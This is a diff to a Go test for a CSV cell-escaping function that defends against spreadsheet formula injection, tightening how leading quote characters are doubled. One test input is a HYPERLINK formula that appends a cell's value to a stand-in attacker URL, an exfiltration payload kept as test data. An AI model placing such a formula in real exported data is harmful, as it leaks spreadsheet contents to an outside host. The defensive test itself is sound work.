@@ -30,8 +30,9 @@ func csvRows(t *testing.T, resp *logical.Response) (header []string, rows []map[
 	return all[0], rows
 }
 
-// Every cell that a spreadsheet would read as a formula starts with ' in the CSV; others
-// are as they are.
+// Every cell that a spreadsheet would read as a formula starts with ' in the CSV, one that
+// starts with ' gets another (so dropping the first ' of such a cell is the true value);
+// others are as they are.
 func TestCSVCell(t *testing.T) {
 	for in, want := range map[string]string{
 		`=HYPERLINK("http://evil.example/"&A1,"click")`: `'=HYPERLINK("http://evil.example/"&A1,"click")`,
@@ -43,7 +44,8 @@ func TestCSVCell(t *testing.T) {
 		"":                 "",
 		"INC-7 =1":         "INC-7 =1",
 		"2026-11-01T00:00": "2026-11-01T00:00",
-		"'quoted":          "'quoted",
+		"'quoted":          "''quoted",
+		"'=1":              "''=1",
 		"kv/app/db":        "kv/app/db",
 	} {
 		if got := csvCell(in); got != want {
